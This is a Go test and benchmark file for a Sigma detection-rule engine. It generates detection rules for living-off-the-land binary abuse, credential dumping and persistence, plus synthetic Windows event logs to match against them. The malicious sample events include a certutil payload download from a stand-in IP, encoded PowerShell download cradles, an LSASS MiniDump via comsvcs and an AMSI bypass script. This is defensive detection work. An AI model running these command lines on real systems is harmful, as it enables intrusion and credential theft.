package sigma

import (
	"fmt"
	"strings"
	"testing"
	"testing/fstest"
	"time"
)

// lolbin describes a living-off-the-land binary and command-line fragments
// that make its use suspicious; the benchmark turns each into a rule.
type lolbin struct {
	exe, technique string
	args           []string
}

var lolbins = []lolbin{
	{"certutil.exe", "t1105", []string{"-urlcache", "-decode", "-decodehex", "verifyctl"}},
	{"bitsadmin.exe", "t1197", []string{"/transfer", "/addfile", "/SetNotifyCmdLine"}},
	{"mshta.exe", "t1218.005", []string{"javascript:", "vbscript:", "http://", "https://"}},
	{"regsvr32.exe", "t1218.010", []string{"scrobj.dll", "/i:http", "/i:ftp"}},
	{"rundll32.exe", "t1218.011", []string{"javascript:", "mshtml,RunHTMLApplication", "MiniDump", ",#1"}},
	{"wmic.exe", "t1047", []string{"process call create", "/node:", "shadowcopy delete", "/format:"}},
	{"msiexec.exe", "t1218.007", []string{"/q http", "/i http", "-y http"}},
	{"cscript.exe", "t1059.005", []string{`\AppData\Local\Temp\`, `\Users\Public\`, ".jse"}},
	{"wscript.exe", "t1059.005", []string{`\AppData\Local\Temp\`, `\Downloads\`, ".vbe"}},
	{"schtasks.exe", "t1053.005", []string{"/create", "/change"}},
	{"sc.exe", "t1543.003", []string{"create ", "config ", "binpath="}},
	{"reg.exe", "t1003.002", []string{`save hklm\sam`, `save hklm\system`, `save hklm\security`}},
	{"vssadmin.exe", "t1490", []string{"delete shadows", "resize shadowstorage"}},
	{"wevtutil.exe", "t1070.001", []string{" cl ", "clear-log"}},
	{"net.exe", "t1136.001", []string{"user /add", "localgroup administrators"}},
	{"net1.exe", "t1087.002", []string{"group \"domain admins\"", "user /domain"}},
	{"nltest.exe", "t1482", []string{"/domain_trusts", "/dclist", "/all_trusts"}},
	{"whoami.exe", "t1033", []string{"/priv", "/all", "/groups"}},
	{"procdump.exe", "t1003.001", []string{"-ma lsass", " lsass.exe"}},
	{"ntdsutil.exe", "t1003.003", []string{"ifm", "create full"}},
	{"bcdedit.exe", "t1490", []string{"recoveryenabled no", "bootstatuspolicy ignoreallfailures"}},
	{"wbadmin.exe", "t1490", []string{"delete catalog", "delete systemstatebackup"}},
	{"attrib.exe", "t1564.001", []string{"+h +s", "+s +h"}},
	{"icacls.exe", "t1222.001", []string{"/grant everyone:f", "/grant *s-1-1-0"}},
	{"takeown.exe", "t1222.001", []string{"/f ", "/r "}},
	{"curl.exe", "t1105", []string{" -o ", "--output", " -O "}},
	{"ftp.exe", "t1105", []string{"-s:", "-script"}},
	{"finger.exe", "t1105", []string{"@"}},
	{"esentutl.exe", "t1003.003", []string{"/vss", "ntds.dit"}},
	{"expand.exe", "t1140", []string{`\\`, ".cab"}},
	{"extrac32.exe", "t1105", []string{"/y ", "/c "}},
	{"forfiles.exe", "t1202", []string{"/p ", "/m ", "/c "}},
	{"hh.exe", "t1218.001", []string{"http", ".chm"}},
	{"installutil.exe", "t1218.004", []string{"/logfile=", "/u "}},
	{"msbuild.exe", "t1127.001", []string{`\Temp\`, ".xml", ".csproj"}},
	{"odbcconf.exe", "t1218.008", []string{"regsvr", "-f "}},
	{"regasm.exe", "t1218.009", []string{"/u ", `\AppData\`}},
	{"regsvcs.exe", "t1218.009", []string{`\AppData\`, `\Temp\`}},
	{"cmstp.exe", "t1218.003", []string{"/ni", "/s "}},
	{"csc.exe", "t1027.004", []string{`\AppData\`, `\Temp\`}},
	{"control.exe", "t1218.002", []string{".cpl", `\Temp\`}},
	{"pcalua.exe", "t1202", []string{"-a "}},
	{"xwizard.exe", "t1218", []string{"RunWizard"}},
	{"presentationhost.exe", "t1218", []string{".xbap", "http"}},
	{"ieexec.exe", "t1105", []string{"http://", "https://"}},
	{"replace.exe", "t1105", []string{"/A "}},
	{"tasklist.exe", "t1057", []string{"/v", "/svc", "lsass"}},
	{"systeminfo.exe", "t1082", []string{"/s ", "/fo"}},
	{"quser.exe", "t1033", []string{"/server:"}},
	{"dsquery.exe", "t1087.002", []string{"-filter", "* -limit 0"}},
	{"mavinject.exe", "t1218.013", []string{"/injectrunning", "/hmodule="}},
	{"diskshadow.exe", "t1003.003", []string{"/s ", "-s "}},
	{"dnscmd.exe", "t1543", []string{"/config", "/serverlevelplugindll"}},
	{"fsutil.exe", "t1070", []string{"usn deletejournal", "setzerodata"}},
	{"netsh.exe", "t1562.004", []string{"firewall set opmode disable", "advfirewall set", "portproxy add"}},
	{"psexec.exe", "t1569.002", []string{"-accepteula", " -s ", "\\\\"}},
	{"adfind.exe", "t1087.002", []string{"-f (objectcategory=", "-gcb -sc trustdmp", "domainlist"}},
	{"rclone.exe", "t1567.002", []string{" copy ", "mega:", "--config"}},
	{"7z.exe", "t1560.001", []string{" a -p", " -hp"}},
	{"winrar.exe", "t1560.001", []string{" -hp", " a -r"}},
	{"makecab.exe", "t1560", []string{"/f ", ".dmp"}},
	{"cipher.exe", "t1485", []string{"/w:"}},
	{"auditpol.exe", "t1562.002", []string{"/clear", "/remove", "/success:disable"}},
	{"taskkill.exe", "t1562.001", []string{"/im msmpeng", "/im sysmon", "/f /im"}},
	{"mofcomp.exe", "t1546.003", []string{`\AppData\`, `\Temp\`}},
	{"msdt.exe", "t1218", []string{"IT_BrowseForFile=", "ms-msdt:", "PCWDiagnostic"}},
	{"setspn.exe", "t1558.003", []string{"-q */*", "-T "}},
	{"klist.exe", "t1558", []string{"purge", "tgt"}},
}

// benchRules returns about a hundred rules in the style of public Sigma
// rules: LOLBin abuse, suspicious parents, credential access, persistence,
// network and PowerShell script detections. suffix makes IDs unique when the
// set is repeated.
func benchRules(suffix string) []string {
	var docs []string
	add := func(title, tags, logsource, detection string) {
		id := fmt.Sprintf("%08x-0000-4000-8000-%012d", len(docs), 0) + suffix
		docs = append(docs, fmt.Sprintf("title: %s\nid: %s\nstatus: test\nlevel: medium\ntags:\n%s\nlogsource:\n%s\ndetection:\n%s\n",
			title, id, indent(tags, 4), indent(logsource, 4), indent(detection, 4)))
	}
	const proc = "category: process_creation\nproduct: windows"
	for _, l := range lolbins {
		var args strings.Builder
		for _, a := range l.args {
			fmt.Fprintf(&args, "        - '%s'\n", strings.ReplaceAll(a, "'", "''"))
		}
		add("Suspicious "+l.exe+" execution", "- attack.defense-evasion\n- attack."+l.technique, proc, fmt.Sprintf(`selection_img:
    - Image|endswith: '\%s'
    - OriginalFileName: '%s'
selection_cli:
    CommandLine|contains:
%sfilter_system:
    ParentImage|startswith: 'C:\Windows\System32\CompatTelRunner'
condition: all of selection_* and not 1 of filter_*`, l.exe, strings.ToUpper(l.exe), args.String()))
	}
	add("Office application spawning a shell", "- attack.execution\n- attack.t1204.002", proc, `selection:
    ParentImage|endswith:
        - '\WINWORD.EXE'
        - '\EXCEL.EXE'
        - '\POWERPNT.exe'
        - '\MSPUB.exe'
        - '\OUTLOOK.EXE'
    Image|endswith:
        - '\cmd.exe'
        - '\powershell.exe'
        - '\pwsh.exe'
        - '\wscript.exe'
        - '\cscript.exe'
        - '\mshta.exe'
        - '\regsvr32.exe'
        - '\rundll32.exe'
condition: selection`)
	add("Encoded PowerShell command line", "- attack.execution\n- attack.t1059.001", proc, `selection_img:
    Image|endswith:
        - '\powershell.exe'
        - '\pwsh.exe'
selection_enc:
    CommandLine|windash|contains:
        - ' -e '
        - ' -en '
        - ' -enc '
        - ' -enco'
        - ' -encodedcommand '
filter_short:
    CommandLine|contains: ' -e .'
condition: all of selection_* and not filter_short`)
	add("PowerShell download cradle in encoded command", "- attack.execution\n- attack.t1059.001\n- attack.t1105", proc, `selection:
    CommandLine|base64offset|contains:
        - 'DownloadString'
        - 'DownloadFile'
        - 'Invoke-WebRequest'
        - 'IEX ('
condition: selection`)
	add("PowerShell wide encoded download", "- attack.execution\n- attack.t1027", proc, `selection:
    CommandLine|wide|base64offset|contains:
        - 'DownloadString'
        - 'Net.WebClient'
condition: selection`)
	add("Hidden PowerShell window", "- attack.defense-evasion\n- attack.t1564.003", proc, `selection:
    Image|endswith: '\powershell.exe'
    CommandLine|windash|contains|all:
        - '-w hidden'
        - '-nop'
condition: selection`)
	add("Shell spawned by web server", "- attack.persistence\n- attack.t1505.003", proc, `selection:
    ParentImage|endswith:
        - '\w3wp.exe'
        - '\httpd.exe'
        - '\nginx.exe'
        - '\tomcat.exe'
        - '\php-cgi.exe'
    Image|endswith:
        - '\cmd.exe'
        - '\powershell.exe'
        - '\whoami.exe'
        - '\net.exe'
condition: selection`)
	add("Process from suspicious folder", "- attack.execution\n- attack.t1204", proc, `selection:
    Image|contains:
        - '\Users\Public\'
        - '\AppData\Local\Temp\'
        - '\Windows\Temp\'
        - '\PerfLogs\'
        - ':\ProgramData\'
filter_legit:
    Image|startswith:
        - 'C:\ProgramData\Microsoft\Windows Defender\'
        - 'C:\Users\Public\Desktop\'
condition: selection and not filter_legit`)
	add("Renamed system binary", "- attack.defense-evasion\n- attack.t1036.003", proc, `selection:
    OriginalFileName:
        - 'Cmd.Exe'
        - 'PowerShell.EXE'
        - 'psexec.c'
        - 'RUNDLL32.EXE'
filter:
    Image|endswith:
        - '\cmd.exe'
        - '\powershell.exe'
        - '\psexec.exe'
        - '\psexec64.exe'
        - '\rundll32.exe'
condition: selection and not filter`)
	add("Mimikatz command line", "- attack.credential-access\n- attack.t1003.001", proc, `selection:
    CommandLine|contains:
        - 'sekurlsa::'
        - 'lsadump::'
        - 'kerberos::'
        - 'privilege::debug'
        - 'token::elevate'
condition: selection`)
	add("Regex suspicious IP in command line", "- attack.command-and-control\n- attack.t1105", proc, `selection:
    CommandLine|re: 'https?://[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}[:/]'
condition: selection`)
	add("Suspicious user process with integrity level", "- attack.privilege-escalation", proc, `selection:
    IntegrityLevel: 'System'
    User|contains:
        - 'AUTHORI'
        - 'AUTORI'
    ParentImage|endswith: '\explorer.exe'
condition: selection`)

	const access = "category: process_access\nproduct: windows"
	add("LSASS memory access", "- attack.credential-access\n- attack.t1003.001", access, `selection:
    TargetImage|endswith: '\lsass.exe'
    GrantedAccess:
        - '0x1010'
        - '0x1410'
        - '0x147a'
        - '0x1fffff'
filter_system:
    SourceImage|startswith:
        - 'C:\Windows\System32\'
        - 'C:\Program Files\'
        - 'C:\ProgramData\Microsoft\Windows Defender\'
condition: selection and not 1 of filter_*`)
	add("Process access with call trace to unknown module", "- attack.defense-evasion\n- attack.t1055", access, `selection:
    CallTrace|contains: 'UNKNOWN('
filter:
    SourceImage|endswith: '\MsMpEng.exe'
condition: selection and not filter`)

	const reg = "category: registry_set\nproduct: windows"
	add("Run key pointing to a temp folder", "- attack.persistence\n- attack.t1547.001", reg, `selection_key:
    TargetObject|contains:
        - '\Software\Microsoft\Windows\CurrentVersion\Run'
        - '\Software\Microsoft\Windows\CurrentVersion\RunOnce'
selection_path:
    Details|contains:
        - '\AppData\Local\Temp\'
        - '\Users\Public\'
        - 'powershell'
        - 'mshta'
condition: all of selection_*`)
	add("Defender exclusion added", "- attack.defense-evasion\n- attack.t1562.001", reg, `selection:
    TargetObject|contains: '\Microsoft\Windows Defender\Exclusions\'
condition: selection`)
	add("Image file execution options debugger", "- attack.persistence\n- attack.t1546.012", reg, `selection:
    TargetObject|contains: '\Image File Execution Options\'
    TargetObject|endswith: '\Debugger'
condition: selection`)
	add("Service image path changed", "- attack.persistence\n- attack.t1543.003", reg, `selection:
    TargetObject|startswith: 'HKLM\System\CurrentControlSet\Services\'
    TargetObject|endswith: '\ImagePath'
    Details|contains:
        - 'cmd /c'
        - 'powershell'
        - '\Temp\'
condition: selection`)

	const net = "category: network_connection\nproduct: windows"
	add("Script host network connection", "- attack.command-and-control\n- attack.t1071", net, `selection:
    Image|endswith:
        - '\wscript.exe'
        - '\cscript.exe'
        - '\mshta.exe'
        - '\regsvr32.exe'
        - '\rundll32.exe'
    Initiated: 'true'
filter_private:
    DestinationIp|cidr:
        - '10.0.0.0/8'
        - '172.16.0.0/12'
        - '192.168.0.0/16'
        - '127.0.0.0/8'
        - 'fe80::/10'
condition: selection and not filter_private`)
	add("Connection to suspicious port", "- attack.command-and-control\n- attack.t1571", net, `selection:
    DestinationPort:
        - 4444
        - 1337
        - 31337
        - 8888
        - 6666
condition: selection`)
	add("High port outbound by office", "- attack.command-and-control", net, `selection:
    Image|endswith:
        - '\WINWORD.EXE'
        - '\EXCEL.EXE'
    DestinationPort|gt: 1024
condition: selection`)

	const dns = "category: dns_query\nproduct: windows"
	add("DNS query to tunneling or paste service", "- attack.command-and-control\n- attack.t1071.004", dns, `selection:
    QueryName|endswith:
        - '.ngrok.io'
        - '.ngrok-free.app'
        - 'pastebin.com'
        - '.duckdns.org'
        - '.trycloudflare.com'
        - 'transfer.sh'
condition: selection`)

	const file = "category: file_event\nproduct: windows"
	add("Executable dropped in startup folder", "- attack.persistence\n- attack.t1547.001", file, `selection:
    TargetFilename|contains: '\Microsoft\Windows\Start Menu\Programs\Startup\'
    TargetFilename|endswith:
        - '.exe'
        - '.bat'
        - '.vbs'
        - '.lnk'
        - '.ps1'
condition: selection`)
	add("LSASS dump file written", "- attack.credential-access\n- attack.t1003.001", file, `selection:
    TargetFilename|contains:
        - 'lsass.dmp'
        - 'lsass.zip'
        - '\lsass_'
condition: selection`)

	const img = "category: image_load\nproduct: windows"
	add("Credential dump library loaded by unusual process", "- attack.credential-access\n- attack.t1003.001", img, `selection:
    ImageLoaded|endswith:
        - '\dbghelp.dll'
        - '\dbgcore.dll'
filter:
    Image|startswith:
        - 'C:\Windows\'
        - 'C:\Program Files\'
        - 'C:\Program Files (x86)\'
condition: selection and not filter`)

	const pipe = "category: pipe_created\nproduct: windows"
	add("Known offensive named pipe", "- attack.execution\n- attack.t1569.002", pipe, `selection:
    PipeName|startswith:
        - '\PSEXESVC'
        - '\msagent_'
        - '\postex_'
        - '\status_'
        - '\mojo.5688.8052.'
condition: selection`)

	const ps = "category: ps_script\nproduct: windows"
	add("PowerShell AMSI bypass", "- attack.defense-evasion\n- attack.t1562.001", ps, `selection:
    ScriptBlockText|contains|all:
        - 'System.Management.Automation.AmsiUtils'
        - 'amsiInitFailed'
condition: selection`)
	add("PowerShell reflective load", "- attack.defense-evasion\n- attack.t1620", ps, `selection:
    ScriptBlockText|contains:
        - '[System.Reflection.Assembly]::Load('
        - 'VirtualAlloc'
        - 'GetDelegateForFunctionPointer'
condition: selection`)

	add("Security log cleared", "- attack.defense-evasion\n- attack.t1070.001", "product: windows\nservice: security", `selection:
    EventID: 1102
condition: selection`)
	add("Remote interactive logon", "- attack.lateral-movement\n- attack.t1021.001", "product: windows\nservice: security", `selection:
    EventID: 4624
    LogonType: 10
filter:
    IpAddress:
        - '127.0.0.1'
        - '::1'
condition: selection and not filter`)
	add("User account created", "- attack.persistence\n- attack.t1136.001", "product: windows\nservice: security", `selection:
    EventID: 4720
condition: selection`)
	add("Scheduled task created with script", "- attack.persistence\n- attack.t1053.005", "product: windows\nservice: security", `selection:
    EventID: 4698
    TaskContent|contains:
        - 'powershell'
        - 'cmd.exe /c'
        - '\AppData\'
condition: selection`)
	add("Service installed from temp", "- attack.persistence\n- attack.t1543.003", "product: windows\nservice: system", `selection:
    Provider_Name: 'Service Control Manager'
    EventID: 7045
    ImagePath|contains:
        - '\Temp\'
        - 'powershell'
        - '%COMSPEC%'
condition: selection`)
	return docs
}

type benchEvent struct {
	ev      ev
	channel string
	id      int
}

// benchEvents is a mix of everyday and malicious events across the
// channels the rules cover.
func benchEvents() []benchEvent {
	proc := func(image, cmd, parent string) benchEvent {
		return benchEvent{ev{
			"EventID": "1", "Image": image, "CommandLine": cmd, "ParentImage": parent,
			"OriginalFileName": image[strings.LastIndexByte(image, '\\')+1:],
			"User":             `CORP\alice`, "IntegrityLevel": "Medium",
			"ProcessGuid": "{4d2c6a8e-1f3b-64d2-1a00-000000000b00}", "ProcessId": "4242",
			"Hashes":           "SHA256=3B1C0A2E9F5D4C7B8A6E1D0F2C3B4A5968778695A4B3C2D1E0F9A8B7C6D5E4F3",
			"CurrentDirectory": `C:\Users\alice\`, "ParentCommandLine": parent,
		}, ChannelSysmon, 1}
	}
	events := []benchEvent{
		proc(`C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`, `C:\Windows\System32\services.exe`),
		proc(`C:\Program Files\Google\Chrome\Application\chrome.exe`, `"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --field-trial-handle=1234,i,5678 --enable-features=NetworkService /prefetch:1`, `C:\Program Files\Google\Chrome\Application\chrome.exe`),
		proc(`C:\Windows\System32\conhost.exe`, `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`, `C:\Windows\System32\cmd.exe`),
		proc(`C:\Windows\System32\cmd.exe`, `C:\Windows\system32\cmd.exe /c ""C:\Program Files\Backup\run.bat" --daily"`, `C:\Windows\System32\taskeng.exe`),
		proc(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\Scripts\inventory.ps1`, `C:\Windows\System32\svchost.exe`),
		proc(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgA1AC8AYQAnACkA`, `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`),
		proc(`C:\Windows\System32\certutil.exe`, `certutil.exe -urlcache -split -f http://203.0.113.7/payload.exe C:\Users\Public\p.exe`, `C:\Windows\System32\cmd.exe`),
		proc(`C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\lsass.dmp full`, `C:\Windows\System32\cmd.exe`),
		proc(`C:\Program Files\Microsoft VS Code\Code.exe`, `"C:\Program Files\Microsoft VS Code\Code.exe" --type=utility --utility-sub-type=node.mojom.NodeService --lang=en-US --service-sandbox-type=none`, `C:\Program Files\Microsoft VS Code\Code.exe`),
		proc(`C:\Windows\System32\whoami.exe`, `whoami /all`, `C:\inetpub\wwwroot\w3wp.exe`),
		proc(`C:\Windows\explorer.exe`, `C:\Windows\Explorer.EXE`, `C:\Windows\System32\userinit.exe`),
		proc(`C:\Windows\System32\taskhostw.exe`, `taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}`, `C:\Windows\System32\svchost.exe`),
		{ev{"EventID": "4688", "Image": `C:\Windows\System32\net.exe`, "NewProcessName": `C:\Windows\System32\net.exe`,
			"CommandLine": `net localgroup administrators eve /add`, "ParentImage": `C:\Windows\System32\cmd.exe`,
			"SubjectUserName": "alice", "SubjectDomainName": "CORP", "TokenElevationType": "%%1937"}, ChannelSecurity, 4688},
		{ev{"EventID": "3", "Image": `C:\Windows\System32\mshta.exe`, "DestinationIp": "198.51.100.23", "DestinationPort": "443",
			"Initiated": "true", "Protocol": "tcp", "SourceIp": "10.0.0.15", "SourcePort": "49822", "User": `CORP\alice`}, ChannelSysmon, 3},
		{ev{"EventID": "3", "Image": `C:\Program Files\Google\Chrome\Application\chrome.exe`, "DestinationIp": "142.250.74.36",
			"DestinationPort": "443", "Initiated": "true", "Protocol": "tcp", "SourceIp": "10.0.0.15"}, ChannelSysmon, 3},
		{ev{"EventID": "10", "SourceImage": `C:\Users\alice\Downloads\tool.exe`, "TargetImage": `C:\Windows\system32\lsass.exe`,
			"GrantedAccess": "0x1010", "CallTrace": `C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|UNKNOWN(00000000001A0000)`}, ChannelSysmon, 10},
		{ev{"EventID": "10", "SourceImage": `C:\Windows\system32\svchost.exe`, "TargetImage": `C:\Windows\system32\lsass.exe`,
			"GrantedAccess": "0x1000", "CallTrace": `C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e`}, ChannelSysmon, 10},
		{ev{"EventID": "13", "EventType": "SetValue", "Image": `C:\Windows\System32\reg.exe`,
			"TargetObject": `HKU\S-1-5-21-1-2-3-1001\Software\Microsoft\Windows\CurrentVersion\Run\Updater`,
			"Details":      `C:\Users\alice\AppData\Local\Temp\upd.exe`}, ChannelSysmon, 13},
		{ev{"EventID": "13", "EventType": "SetValue", "Image": `C:\Windows\System32\svchost.exe`,
			"TargetObject": `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\LastUsedUsername`, "Details": "alice"}, ChannelSysmon, 13},
		{ev{"EventID": "11", "Image": `C:\Windows\System32\rundll32.exe`, "TargetFilename": `C:\Windows\Temp\lsass.dmp`}, ChannelSysmon, 11},
		{ev{"EventID": "11", "Image": `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`,
			"TargetFilename": `C:\Users\alice\AppData\Local\Microsoft\Office\16.0\OfficeFileCache\cache.db`}, ChannelSysmon, 11},
		{ev{"EventID": "22", "Image": `C:\Program Files\Google\Chrome\Application\chrome.exe`, "QueryName": "www.google.com",
			"QueryResults": "::ffff:142.250.74.36;"}, ChannelSysmon, 22},
		{ev{"EventID": "22", "Image": `C:\Users\Public\p.exe`, "QueryName": "a1b2c3.ngrok-free.app"}, ChannelSysmon, 22},
		{ev{"EventID": "7", "Image": `C:\Users\alice\Downloads\tool.exe`, "ImageLoaded": `C:\Windows\System32\dbghelp.dll`,
			"Signed": "true", "Signature": "Microsoft Windows"}, ChannelSysmon, 7},
		{ev{"EventID": "17", "Image": `C:\Windows\PSEXESVC.exe`, "PipeName": `\PSEXESVC-WS01-4242-stdin`}, ChannelSysmon, 17},
		{ev{"EventID": "4104", "ScriptBlockText": `$a=[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils');$a.GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)`,
			"Path": ""}, ChannelPowerShell, 4104},
		{ev{"EventID": "4104", "ScriptBlockText": `Get-ChildItem -Path C:\Reports -Filter *.csv | ForEach-Object { Import-Csv $_.FullName } | Export-Excel summary.xlsx`}, ChannelPowerShell, 4104},
		{ev{"EventID": "4624", "LogonType": "10", "TargetUserName": "alice", "IpAddress": "203.0.113.50", "WorkstationName": "WS01"}, ChannelSecurity, 4624},
		{ev{"EventID": "4624", "LogonType": "3", "TargetUserName": "WS01$", "IpAddress": "10.0.0.2"}, ChannelSecurity, 4624},
		{ev{"EventID": "7045", "Provider_Name": "Service Control Manager", "ServiceName": "updsvc",
			"ImagePath": `%COMSPEC% /c powershell -nop -w hidden -c "iex(new-object net.webclient).downloadstring('http://203.0.113.7/a')"`}, ChannelSystem, 7045},
	}
	return events
}

func benchRuleSet(tb testing.TB) *RuleSet {
	tb.Helper()
	var rules []*Rule
	for _, doc := range benchRules("") {
		rs, err := ParseRule([]byte(doc))
		if err != nil {
			tb.Fatalf("%v\n%s", err, doc)
		}
		rules = append(rules, rs...)
	}
	return NewRuleSet(rules)
}

func TestBenchRulesMatchWhatTheyShould(t *testing.T) {
	rs := benchRuleSet(t)
	if n := len(rs.Rules()); n < 80 {
		t.Fatalf("benchmark set has %d rules, want about a hundred", n)
	}
	if u := rs.Unsupported(); len(u) != 0 {
		t.Errorf("benchmark rules use unsupported features: %q", u)
	}
	hits := map[string]bool{}
	for _, e := range benchEvents() {
		rs.Match(e.ev, e.channel, e.id, func(r *Rule) { hits[r.Title] = true })
	}
	for _, want := range []string{
		"Suspicious certutil.exe execution",
		"Suspicious rundll32.exe execution",
		"Encoded PowerShell command line",
		"PowerShell wide encoded download",
		"Hidden PowerShell window",
		"Office application spawning a shell",
		"Shell spawned by web server",
		"Suspicious whoami.exe execution",
		"Suspicious net.exe execution",
		"Regex suspicious IP in command line",
		"Script host network connection",
		"LSASS memory access",
		"Process access with call trace to unknown module",
		"Run key pointing to a temp folder",
		"LSASS dump file written",
		"DNS query to tunneling or paste service",
		"Credential dump library loaded by unusual process",
		"Known offensive named pipe",
		"PowerShell AMSI bypass",
		"Remote interactive logon",
		"Service installed from temp",
	} {
		if !hits[want] {
			t.Errorf("rule %q did not fire on the benchmark events", want)
		}
	}
	for _, never := range []string{"Connection to suspicious port", "Security log cleared", "Mimikatz command line"} {
		if hits[never] {
			t.Errorf("rule %q fired on the benchmark events", never)
		}
	}
}

// BenchmarkMatch measures RuleSet.Match over realistic events; ns/event is
// the cost of testing one event against every rule that applies to it.
func BenchmarkMatch(b *testing.B) {
	rs := benchRuleSet(b)
	events := benchEvents()
	hits := 0
	fn := func(*Rule) { hits++ }
	b.ReportAllocs()
	b.ResetTimer()
	start := time.Now()
	for b.Loop() {
		for _, e := range events {
			rs.Match(e.ev, e.channel, e.id, fn)
		}
	}
	elapsed := time.Since(start)
	b.ReportMetric(float64(elapsed.Nanoseconds())/float64(b.N*len(events)), "ns/event")
	b.ReportMetric(float64(len(rs.Rules())), "rules")
}

// BenchmarkLoad loads 3,000 rule files from memory.
func BenchmarkLoad(b *testing.B) {
	fsys := fstest.MapFS{}
	for i := 0; len(fsys) < 3000; i++ {
		for j, doc := range benchRules(fmt.Sprintf("%04d", i)) {
			if len(fsys) == 3000 {
				break
			}
			fsys[fmt.Sprintf("rules/set%02d/rule_%03d.yml", i, j)] = &fstest.MapFile{Data: []byte(doc)}
		}
	}
	b.ReportAllocs()
	b.ResetTimer()
	for b.Loop() {
		rs, lerrs, err := Load(fsys, "rules")
		if err != nil || len(lerrs) > 0 {
			b.Fatal(err, lerrs)
		}
		if n := len(rs.Rules()); n != 3000 {
			b.Fatalf("loaded %d rules", n)
		}
	}
}
